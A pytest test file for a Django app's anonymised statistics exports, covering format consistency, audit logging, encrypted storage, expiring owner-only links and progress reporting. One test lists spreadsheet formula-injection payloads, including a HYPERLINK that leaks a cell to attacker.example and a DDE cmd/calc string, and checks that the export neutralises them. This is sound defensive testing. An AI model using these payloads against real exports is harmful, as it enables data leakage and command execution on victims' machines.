"""Exports: formats that agree with each other, formula neutralisation, notes, audit rows with
the parameters, encrypted storage, owner-only links that expire, progress, a real worker."""

from __future__ import annotations

import io
import json
import logging
import time
from datetime import timedelta

import pytest
from django.conf import settings as django_settings
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from northstar.audit.models import AuditEvent
from stats import services
from stats.models import ExportJob, ExportStatus
from stats.periods import Period
from stats.tasks import build_export
from tests.factories import UserFactory
from tests.helpers import sign_in
from tests.stats.stats_helpers import (
    assert_rows_match,
    csv_rows,
    expected_rows,
    mixed_release_data,
    partner,
    xlsx_sheets,
    xlsx_text,
)

PERIOD = {"from_quarter": "2026-Q1", "to_quarter": "2026-Q2"}
HOSTILE_NAMES = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd", "\t=1+1")


@pytest.fixture
def k5(settings):
    settings.STATS_MIN_CELL = 5


@pytest.fixture
def admin_client(client, admin_user):
    return sign_in(client, admin_user)


def request_export(client, django_capture_on_commit_callbacks, export_format: str,
                   period: dict = PERIOD) -> ExportJob:
    """POST the export form; the task runs in-process after commit, as without a broker."""
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/stats/exports/", {**period, "format": export_format})
    assert response.status_code == 302
    job = ExportJob.objects.order_by("-created_at").first()
    assert response["Location"] == f"/stats/exports/{job.pk}/"
    job.refresh_from_db()
    return job


def download(client, job: ExportJob):
    return client.get(f"/stats/exports/{job.pk}/download/")


@pytest.mark.django_db
def test_export_is_audited_with_its_parameters_and_downloaded_as_an_attachment(
        admin_client, admin_user, k5, django_capture_on_commit_callbacks):
    job = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    assert (job.status, job.progress, job.requested_by) == (ExportStatus.READY, 100, admin_user)
    requested = AuditEvent.objects.get(action="stats.export_requested")
    assert requested.actor_id == admin_user.pk
    assert (requested.object_type, requested.object_id) == ("stats.exportjob", str(job.pk))
    parameters = {"format": "json", "from": "2026-Q1", "to": "2026-Q2", "min_cell": 5,
                  "language": "en"}
    assert requested.details == parameters

    response = download(admin_client, job)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == (
        'attachment; filename="northstar-statistics-2026-Q1-2026-Q2.json"')
    assert response["Cache-Control"] == "no-store"
    assert json.loads(response.content)["period"] == {
        "from": "2026-Q1", "to": "2026-Q2", "quarters": ["2026-Q1", "2026-Q2"]}
    downloaded = AuditEvent.objects.get(action="stats.export_downloaded")
    assert (downloaded.actor_id, downloaded.object_id) == (admin_user.pk, str(job.pk))
    assert downloaded.details == parameters


@pytest.mark.django_db
def test_three_formats_hold_the_same_tables_and_notes(admin_client, admin_user, k5,
                                                      django_capture_on_commit_callbacks):
    mixed_release_data(admin_user)
    files = {}
    for export_format in ("json", "csv", "xlsx"):
        job = request_export(admin_client, django_capture_on_commit_callbacks, export_format)
        files[export_format] = download(admin_client, job).content
    document = json.loads(files["json"])
    values = [value for table in document["tables"] for row in table["rows"]
              for value in row["values"].values()]
    assert {"<5", "x", ".."} <= set(values)
    assert any(isinstance(value, int) and value >= 5 for value in values)
    assert any(isinstance(value, float) for value in values)

    rows = csv_rows(files["csv"])
    assert rows[:3] == [["Northstar anonymised statistics"], ["Period", "2026-Q1", "2026-Q2"],
                        ["Smallest published count (k)", "5"]]
    position = 4
    for table in document["tables"]:
        position = assert_rows_match(rows, expected_rows(table, as_csv=True), position)
    assert rows[position] == ["Notes"]
    assert [row[0] for row in rows[position + 1:]] == document["notes"]

    sheets = xlsx_sheets(files["xlsx"])
    assert [row[0] for row in sheets["Notes"][4:]] == document["notes"]
    by_section: dict[str, list] = {}
    for table in document["tables"]:
        by_section.setdefault(table["section"], []).append(table)
    assert list(sheets) == ["Notes", *by_section]
    for section, tables in by_section.items():
        position = 0
        for table in tables:
            position = assert_rows_match(sheets[section], expected_rows(table, as_csv=False),
                                         position)
        assert position == len(sheets[section]) + 1  # no row is stored for the last blank


@pytest.mark.django_db
def test_notes_explain_both_markers_in_every_format(admin_client, settings,
                                                    django_capture_on_commit_callbacks):
    settings.STATS_MIN_CELL = 11
    for export_format in ("json", "csv", "xlsx"):
        job = request_export(admin_client, django_capture_on_commit_callbacks, export_format)
        content = download(admin_client, job).content
        if export_format == "xlsx":
            text = " ".join(str(row[0]) for row in xlsx_sheets(content)["Notes"] if row)
        elif export_format == "json":
            text = " ".join(json.loads(content)["notes"])
        else:
            text = content.decode("utf-8-sig")
        assert "“<11”: a count from 1 to 10. Small counts are not published." in text
        assert "“x” in a count table: a count of at least 11, hidden so that a small count" \
            in text
        assert "“x” for a rate or a median: not published" in text


@pytest.mark.django_db
def test_cells_that_look_like_formulas_are_neutralised(admin_client, k5,
                                                       django_capture_on_commit_callbacks):
    for name in HOSTILE_NAMES:
        partner(name)
    csv_job = request_export(admin_client, django_capture_on_commit_callbacks, "csv")
    labels = {row[0] for row in csv_rows(download(admin_client, csv_job).content) if row}
    for name in HOSTILE_NAMES:
        assert "'" + name in labels
        assert name not in labels

    xlsx_job = request_export(admin_client, django_capture_on_commit_callbacks, "xlsx")
    content = download(admin_client, xlsx_job).content
    sheet = load_workbook(io.BytesIO(content))["Referrals"]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for name in HOSTILE_NAMES:
        assert cells[name].data_type == "s"  # stored as text: never a formula
    assert "<f>" not in xlsx_text(content)

    json_job = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    table = next(table for table in json.loads(download(admin_client, json_job).content)["tables"]
                 if table["id"] == "referrals_by_partner_and_answer")
    assert set(HOSTILE_NAMES) <= {row["label"] for row in table["rows"]}


@pytest.mark.django_db
def test_file_is_stored_encrypted_under_a_random_name(admin_client, k5, admin_user,
                                                      django_capture_on_commit_callbacks):
    mixed_release_data(admin_user)
    job = request_export(admin_client, django_capture_on_commit_callbacks, "csv")
    assert job.storage_name.startswith("exports/") and len(job.storage_name) == 8 + 32
    with default_storage.open(job.storage_name, "rb") as stored:
        blob = stored.read()
    assert blob.startswith(b"ns1:")
    assert b"Intakes" not in blob and b"Aurore" not in blob and b"2026-Q1" not in blob
    # The ciphertext is bound to its job: put under another job, it is not served.
    other = ExportJob.objects.create(
        requested_by=admin_user, format="csv", first_quarter="2026-Q1",
        last_quarter="2026-Q2", status=ExportStatus.READY, storage_name=job.storage_name,
        expires_at=timezone.now() + timedelta(minutes=5))
    assert download(admin_client, other).status_code == 410
    assert download(admin_client, job).status_code == 200


@pytest.mark.django_db
def test_link_expires_and_the_file_is_deleted(admin_client, settings,
                                              django_capture_on_commit_callbacks):
    settings.STATS_EXPORT_LINK_MINUTES = 7
    job = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    assert job.expires_at - job.finished_at == timedelta(minutes=7)
    assert download(admin_client, job).status_code == 200
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    downloads_before = AuditEvent.objects.filter(action="stats.export_downloaded").count()
    with django_capture_on_commit_callbacks(execute=True):
        response = download(admin_client, job)
    assert response.status_code == 410
    assert "has expired" in response.content.decode()
    assert not default_storage.exists(job.storage_name)
    job.refresh_from_db()
    assert (job.status, job.storage_name) == (ExportStatus.EXPIRED, "")
    assert AuditEvent.objects.filter(action="stats.export_downloaded").count() == \
        downloads_before


@pytest.mark.django_db
def test_expired_files_are_purged_when_another_export_is_built(
        admin_client, django_capture_on_commit_callbacks):
    first = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    ExportJob.objects.filter(pk=first.pk).update(expires_at=timezone.now())
    request_export(admin_client, django_capture_on_commit_callbacks, "csv")
    first.refresh_from_db()
    assert first.status == ExportStatus.EXPIRED
    assert not default_storage.exists(first.storage_name or "exports/none")
    assert len(default_storage.listdir("exports")[1]) == 1


@pytest.mark.django_db
def test_another_admin_cannot_see_or_download_a_job(admin_client,
                                                    django_capture_on_commit_callbacks):
    job = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    other = sign_in(Client(), UserFactory(admin=True))
    audit_rows = AuditEvent.objects.count()
    assert other.get(f"/stats/exports/{job.pk}/").status_code == 404
    assert download(other, job).status_code == 404
    assert str(job.pk) not in other.get("/stats/exports/").content.decode()
    assert AuditEvent.objects.count() == audit_rows
    assert download(admin_client, job).status_code == 200


@pytest.mark.django_db
def test_progress_page_refreshes_until_the_link_is_ready(admin_client, admin_user):
    job = ExportJob.objects.create(requested_by=admin_user, format="xlsx",
                                   first_quarter="2026-Q1", last_quarter="2026-Q2")
    html = admin_client.get(f"/stats/exports/{job.pk}/").content.decode()
    assert '<meta http-equiv="refresh" content="2">' in html
    assert '<progress class="d-block w-100 mb-2" id="export-progress" max="100" value="0">' \
        in html
    assert "data-export-link" not in html
    response = download(admin_client, job)  # not ready yet: back to the progress page
    assert (response.status_code, response["Location"]) == (302, f"/stats/exports/{job.pk}/")

    seen = []
    real_progress = services.export_progress

    def record(job, percent):
        real_progress(job, percent)
        seen.append(ExportJob.objects.get(pk=job.pk).progress)

    services.export_progress = record
    try:
        assert build_export(str(job.pk)) == ExportStatus.READY
    finally:
        services.export_progress = real_progress
    assert seen == sorted(seen) and seen[0] < 50 < seen[-1] < 100
    html = admin_client.get(f"/stats/exports/{job.pk}/").content.decode()
    assert "http-equiv" not in html
    assert f'href="/stats/exports/{job.pk}/download/" data-export-link' in html


@pytest.mark.django_db
def test_building_twice_keeps_one_file(admin_user):
    job = services.export_request(actor=admin_user, period=Period("2026-Q1", "2026-Q1"),
                                  export_format="csv", language="en")
    assert build_export(str(job.pk)) == ExportStatus.READY
    first = ExportJob.objects.get(pk=job.pk).storage_name
    assert build_export(str(job.pk)) == ExportStatus.READY  # a redelivered task
    assert ExportJob.objects.get(pk=job.pk).storage_name == first
    assert default_storage.listdir("exports")[1] == [first.split("/")[1]]


@pytest.mark.django_db
def test_a_failed_build_is_reported_without_data(admin_client, admin_user, caplog, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(services, "build_release", broken)
    job = services.export_request(actor=admin_user, period=Period("2026-Q1", "2026-Q1"),
                                  export_format="csv", language="en")
    with caplog.at_level(logging.ERROR, logger="stats.services"):
        assert build_export(str(job.pk)) == ExportStatus.FAILED
    assert f"export {job.pk} failed" in caplog.text
    html = admin_client.get(f"/stats/exports/{job.pk}/").content.decode()
    assert "could not be prepared" in html
    assert download(admin_client, job).status_code == 410


@pytest.mark.django_db
def test_invalid_period_is_refused(admin_client):
    response = admin_client.post("/stats/exports/", {
        "from_quarter": "2026-Q3", "to_quarter": "2026-Q1", "format": "csv"})
    assert response.status_code == 200
    assert "is not after the" in response.content.decode()
    assert ExportJob.objects.count() == 0
    assert not AuditEvent.objects.filter(action="stats.export_requested").exists()


@pytest.mark.django_db(transaction=True)
def test_export_through_a_real_worker(client, admin_user, celery_worker_process,
                                      require_postgres, settings):
    """CI: the task travels through Redis to a worker process, which reports progress in the
    database and stores the file; the web process serves it."""
    settings.MEDIA_ROOT = django_settings.BASE_DIR / ".test-media"  # the worker's MEDIA_ROOT
    sign_in(client, admin_user)
    response = client.post("/stats/exports/", {**PERIOD, "format": "xlsx"})
    job = ExportJob.objects.get()
    assert response["Location"] == f"/stats/exports/{job.pk}/"
    deadline = time.monotonic() + 60
    while job.is_pending and time.monotonic() < deadline:
        time.sleep(0.2)
        job.refresh_from_db()
    assert job.status == ExportStatus.READY
    try:
        response = download(client, job)
        assert response.status_code == 200
        assert "Intakes" in xlsx_sheets(response.content)
    finally:
        default_storage.delete(job.storage_name)


@pytest.mark.django_db
def test_a_withheld_population_is_marked_in_every_format(admin_client, admin_user, settings,
                                                         django_capture_on_commit_callbacks):
    """k = 3, one intake in each of two quarters and provinces: the total "<3" over two "<3"
    cells can only be 2, and no published non-zero number can hide it, so every intake table
    is withheld (stats.disclosure), and says so."""
    from tests.stats.stats_helpers import at, make_case

    settings.STATS_MIN_CELL = 3
    make_case(admin_user, created_at=at(2026, 2, 1), province="ON")
    make_case(admin_user, created_at=at(2026, 5, 1), province="QC")
    job = request_export(admin_client, django_capture_on_commit_callbacks, "json")
    document = json.loads(download(admin_client, job).content)
    intakes = [table for table in document["tables"] if table["id"].startswith(
        ("intakes_", "screening_"))]
    assert len(intakes) == 12 and all(table["withheld"] for table in intakes)
    assert {value for table in intakes for row in table["rows"]
            for value in row["values"].values()} == {"x"}
    referrals = next(table for table in document["tables"]
                     if table["id"] == "referrals_by_province")
    assert not referrals["withheld"] and referrals["rows"][-1]["values"]["count"] == 0

    csv_job = request_export(admin_client, django_capture_on_commit_callbacks, "csv")
    rows = csv_rows(download(admin_client, csv_job).content)
    title = rows.index(["Intakes by quarter and province of destination"])
    assert rows[title + 1][0].startswith("Withheld: the small counts of this population")
    html = admin_client.get("/stats/", PERIOD).content.decode()
    assert "withheld: its small counts could not be protected" in html
    assert "Most numbers of this period are hidden." in html
